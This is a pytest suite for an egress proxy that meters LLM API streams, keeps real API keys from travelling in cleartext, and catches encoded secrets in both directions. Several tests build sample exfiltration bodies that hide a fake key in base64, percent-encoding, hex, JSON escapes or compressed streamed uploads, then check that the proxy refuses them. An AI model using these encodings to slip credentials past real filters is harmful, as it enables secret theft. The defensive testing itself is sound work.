"""Issue #8 §0, §2 and §3 end to end: metered streams keep their framing whatever the
upstream's chunking; a real secret never travels in cleartext; encoded secrets are caught
both ways (scrubbed on the way to the agent, refused on the way out)."""

from __future__ import annotations

import base64
import gzip
import json
import socket
import time
import zlib
from decimal import Decimal

import brotli
import httpx
import pytest
import zstandard
from genai_prices import Usage, calc_price
from support.clients import read_http_response
from support.llm.common import REAL
from support.proxy import RunningProxy
from support.upstream import Upstream
from test_credentials import anthropic_client, http_client, mint, openai_client

from egress_guard.forms import views


def request_rows(proxy: RunningProxy, n: int) -> list[dict]:
    """The request rows, once `n` of them are written (bounded wait)."""
    deadline = time.monotonic() + 10
    while True:
        rows = [r for r in proxy.rows() if r["kind"] == "request"]
        if len(rows) >= n or time.monotonic() > deadline:
            return rows
        time.sleep(0.05)


def price(model: str, input_tokens: int, output_tokens: int) -> Decimal:
    return Decimal(calc_price(Usage(input_tokens=input_tokens, output_tokens=output_tokens), model).total_price)


# --- §0: metered streams with the SDKs' defaults, many per kept-alive connection -----------


def test_openai_default_streams_complete_on_a_kept_alive_connection(
    cred_proxy: RunningProxy, llm_upstream: Upstream
) -> None:
    """The SDKs do not ask for usage: egress-guard asks for it and drops the usage-only chunk
    on the way back. Dropping it must not end the chunked body early (it did: 59–69 of 250
    streams broke, and the rest of each arrived as garbage on the kept-alive connection),
    also when the upstream splits every event at every byte."""
    fake = mint(cred_proxy).env["OPENAI_API_KEY"]
    url = f"https://api.openai.com:{llm_upstream.port}/v1/chat/completions"
    body = {"model": "gpt-4o-mini", "max_tokens": 5, "stream": True, "messages": [{"role": "user", "content": "hi"}]}
    n = 24
    with http_client(cred_proxy) as client:  # one connection, kept alive: what the SDKs' pools do
        for i in range(n):
            headers = {"Authorization": f"Bearer {fake}", **({"X-Test-Split": "1"} if i % 2 else {})}
            with client.stream("POST", url, json=body, headers=headers) as r:
                events = [e for e in b"".join(r.iter_bytes()).split(b"\n\n") if e]
            assert events[-1] == b"data: [DONE]", i  # the whole stream, to its last event
            assert not any(b'"usage"' in e for e in events)  # without the chunk it did not ask for
    rows = request_rows(cred_proxy, n)
    assert [r["kind"] for r in cred_proxy.rows()].count("connect") == 1
    expected = price("gpt-4o-mini", 11, 5)
    assert len(rows) == n and {Decimal(r["cost_usd"]) for r in rows} == {expected}


def test_openai_sdk_default_streams_complete(cred_proxy: RunningProxy, llm_upstream: Upstream) -> None:
    client = openai_client(cred_proxy, llm_upstream.port, mint(cred_proxy).env["OPENAI_API_KEY"])
    for i in range(8):
        stream = client.chat.completions.create(
            model="gpt-4o-mini",
            max_tokens=5,
            stream=True,
            messages=[{"role": "user", "content": "ping"}],
            extra_headers={"X-Test-Split": "1"} if i % 2 else {},
        )
        chunks = list(stream)  # raises on a broken stream (httpx: RemoteProtocolError)
        assert "".join(c.choices[0].delta.content or "" for c in chunks if c.choices) == "pong", i
        assert all(c.usage is None for c in chunks)  # the usage chunk egress-guard asked for is gone
    rows = request_rows(cred_proxy, 8)
    assert len(rows) == 8 and {Decimal(r["cost_usd"]) for r in rows} == {price("gpt-4o-mini", 11, 5)}


def test_anthropic_sdk_streams_split_at_every_byte(cred_proxy: RunningProxy, llm_upstream: Upstream) -> None:
    client = anthropic_client(cred_proxy, llm_upstream.port, mint(cred_proxy).env["ANTHROPIC_API_KEY"])
    for _ in range(6):
        with client.messages.stream(
            model="claude-haiku-4-5",
            max_tokens=4,
            messages=[{"role": "user", "content": "ping"}],
            extra_headers={"X-Test-Split": "1"},
        ) as stream:
            assert stream.get_final_text() == "pong"
    rows = request_rows(cred_proxy, 6)
    assert len(rows) == 6 and all(r["output_tokens"] == 4 and r["cost_usd"] for r in rows)


# --- §2: never in cleartext ---------------------------------------------------------------


def test_a_fake_key_on_plain_http_is_refused_and_nothing_is_sent(
    make_proxy, cred_config: dict, real_env, plain_upstream: Upstream
) -> None:
    """A rule that allows the plain port must not let an absolute-form http:// request carry
    the swapped secret in cleartext."""
    cred_config["allow"].append({"host": "api.openai.com", "ports": [plain_upstream.port]})
    proxy = make_proxy(**cred_config)
    fake = mint(proxy).env["OPENAI_API_KEY"]
    with http_client(proxy) as client:
        r = client.get(
            f"http://api.openai.com:{plain_upstream.port}/v1/models", headers={"Authorization": f"Bearer {fake}"}
        )
    assert r.status_code == 403
    assert "only sent over HTTPS" in r.json()["error"]["message"]
    assert plain_upstream.state.requests == [] and plain_upstream.state.connections == 0
    row = [r for r in proxy.rows(expect=1) if r["kind"] == "request"][-1]
    assert (row["credential"], row["status"], row["agent"]) == ("denied-cleartext", 403, "researcher")


# --- §3: encoded secrets, both ways ---------------------------------------------------------


def test_every_encoding_of_the_secret_is_scrubbed_from_a_hostile_upstream(
    cred_proxy: RunningProxy, llm_upstream: Upstream
) -> None:
    fake = mint(cred_proxy).env["OPENAI_API_KEY"]
    with http_client(cred_proxy) as client:
        r = client.get(
            f"https://api.openai.com:{llm_upstream.port}/echo-forms", headers={"Authorization": f"Bearer {fake}"}
        )
    assert r.status_code == 200
    body = r.content
    assert body.count(b" | ") == 7  # all eight forms arrived (masked), the framing intact
    real = REAL["openai"].encode()
    found = [v for v in views(body, 16) if real in v]
    assert found == [], "a form of the real key reached the agent"
    assert b"REDACTED-by-egress-guard" in body


def _exfil_bodies(fake: str) -> dict[str, bytes]:
    raw = fake.encode()
    return {
        "base64": json.dumps({"note": base64.b64encode(b"Bearer " + raw).decode()}).encode(),
        "base64url-offset-2": json.dumps({"note": base64.urlsafe_b64encode(b"ab" + raw).decode()}).encode(),
        "percent-all": ("q=" + "".join(f"%{b:02X}" for b in raw)).encode(),
        "percent-mixed": ("q=" + "".join(f"%{b:02x}" if i % 2 else chr(b) for i, b in enumerate(raw))).encode(),
        "hex": raw.hex().upper().encode(),
        "json-escapes": ('{"k": "' + "".join(f"\\u{b:04x}" for b in raw) + '"}').encode(),
    }


@pytest.mark.parametrize("encoding", list(_exfil_bodies("x")))
def test_an_encoded_fake_key_to_an_unbound_host_is_refused(
    cred_proxy: RunningProxy, upstream: Upstream, encoding: str
) -> None:
    fake = mint(cred_proxy).env["OPENAI_API_KEY"]
    body = _exfil_bodies(fake)[encoding]
    with http_client(cred_proxy) as client:
        r = client.post(f"https://api.test.local:{upstream.port}/json", content=body)
    assert r.status_code == 403, encoding
    assert "egress-guard key for openai was sent to api.test.local" in r.json()["error"]["message"]
    assert upstream.state.requests == []


COMPRESS = {
    "gzip": gzip.compress,
    "deflate": zlib.compress,
    "br": brotli.compress,
    "zstd": lambda data: zstandard.ZstdCompressor().compress(data),
}


@pytest.mark.parametrize("encoding", list(COMPRESS))
def test_a_compressed_streamed_body_is_scanned_decoded(
    cred_proxy: RunningProxy, upstream: Upstream, encoding: str
) -> None:
    """Chunked (streamed) bodies were scanned as raw wire bytes: a gzip body got through."""
    fake = mint(cred_proxy).env["OPENAI_API_KEY"]
    payload = COMPRESS[encoding](b"x" * 5000 + json.dumps({"key": fake}).encode() + b"y" * 5000)

    def pieces():
        for i in range(0, len(payload), 100):
            yield payload[i : i + 100]

    with http_client(cred_proxy) as client, pytest.raises(httpx.HTTPError):
        client.post(
            f"https://api.test.local:{upstream.port}/json",
            content=pieces(),
            headers={"Content-Encoding": encoding},
        )
    assert [r for r in upstream.state.requests if r["method"] == "POST"] == []
    row = [r for r in cred_proxy.rows(expect=2) if r["kind"] == "request"][-1]
    assert row["credential"] == "denied-unbound-host"


def test_an_undecodable_compressed_body_is_refused(cred_proxy: RunningProxy, upstream: Upstream) -> None:
    with http_client(cred_proxy) as client:
        r = client.post(
            f"https://api.test.local:{upstream.port}/json", content=b"not gzip", headers={"Content-Encoding": "gzip"}
        )
    assert r.status_code == 400 and "cannot be decoded" in r.json()["error"]["message"]
    assert upstream.state.requests == []


def test_a_refused_http2_upload_never_reaches_the_upstream_complete(
    cred_proxy: RunningProxy, upstream: Upstream
) -> None:
    """An HTTP/2 body without a length is streamed; refused for a fake key, the upstream must
    not see a complete (empty) POST — it used to answer one."""
    fake = mint(cred_proxy).env["OPENAI_API_KEY"]

    def pieces():
        yield json.dumps({"key": fake}).encode()  # the first piece: nothing forwarded but headers
        yield b"b" * 2000

    with (
        httpx.Client(
            proxy=cred_proxy.url, verify=cred_proxy.client_context(), trust_env=False, timeout=10, http2=True
        ) as client,
        pytest.raises(httpx.HTTPError),
    ):
        client.post(f"https://api.test.local:{upstream.port}/json", content=pieces())
    assert [r for r in upstream.state.requests if r["method"] == "POST"] == []


def test_an_http1_chunked_upload_refused_midway_is_not_completed_upstream(
    cred_proxy: RunningProxy, upstream: Upstream
) -> None:
    fake = mint(cred_proxy).env["OPENAI_API_KEY"]
    sock = socket.create_connection(("127.0.0.1", cred_proxy.port), timeout=10)
    target = f"api.test.local:{upstream.port}"
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    assert sock.recv(4096).startswith(b"HTTP/1.1 200")
    tls = cred_proxy.client_context().wrap_socket(sock, server_hostname="api.test.local")
    tls.sendall(
        f"POST /json HTTP/1.1\r\nHost: {target}\r\nTransfer-Encoding: chunked\r\n\r\n".encode() + b"5\r\nhello\r\n"
    )
    evil = json.dumps({"k": fake}).encode()
    tls.sendall(b"%x\r\n%s\r\n" % (len(evil), evil))
    with pytest.raises(OSError):  # the proxy cut the connection: no response, no end of body upstream
        tls.sendall(b"0\r\n\r\n")
        status, _, _ = read_http_response(tls)
        assert status == 0
        raise OSError("closed")
    tls.close()
    assert [r for r in upstream.state.requests if r["method"] == "POST"] == []
